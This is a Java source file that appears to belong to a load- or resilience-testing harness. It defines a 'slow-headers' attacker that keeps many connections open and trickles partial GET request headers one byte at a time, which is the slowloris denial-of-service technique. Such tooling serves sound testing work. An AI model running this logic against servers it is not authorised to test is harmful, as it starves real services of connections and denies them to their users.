package io.keylapse.attack.kind;

import io.keylapse.attack.wire.Attacker;
import io.keylapse.attack.wire.Line;
import io.keylapse.attack.wire.Requests;
import io.keylapse.attack.wire.Target;
import java.time.Duration;
import java.util.ArrayList;

/** Sends the head of a request byte by byte, so that no connection is ever idle and no request is ever complete. */
record SlowHeaders(int connections) implements Attacker {
    private static final Duration BETWEEN_BYTES = Duration.ofMillis(500);

    @Override
    public String name() {
        return "slow-headers";
    }

    @Override
    public long bytes() {
        return 16L << 20;
    }

    @Override
    public void attack(Target target) throws InterruptedException {
        var lines = new ArrayList<Line>();
        while (target.goesOn()) {
            lines.forEach(Line::swallow);
            lines.stream().filter(Line::isIdle).forEach(line -> line.send(Requests.bytes("x")));
            target.refill(
                    lines,
                    line -> line.send(
                            Requests.bytes(Requests.head("GET", "/check").substring(0, 20))));
            target.pause(BETWEEN_BYTES);
        }
    }
}
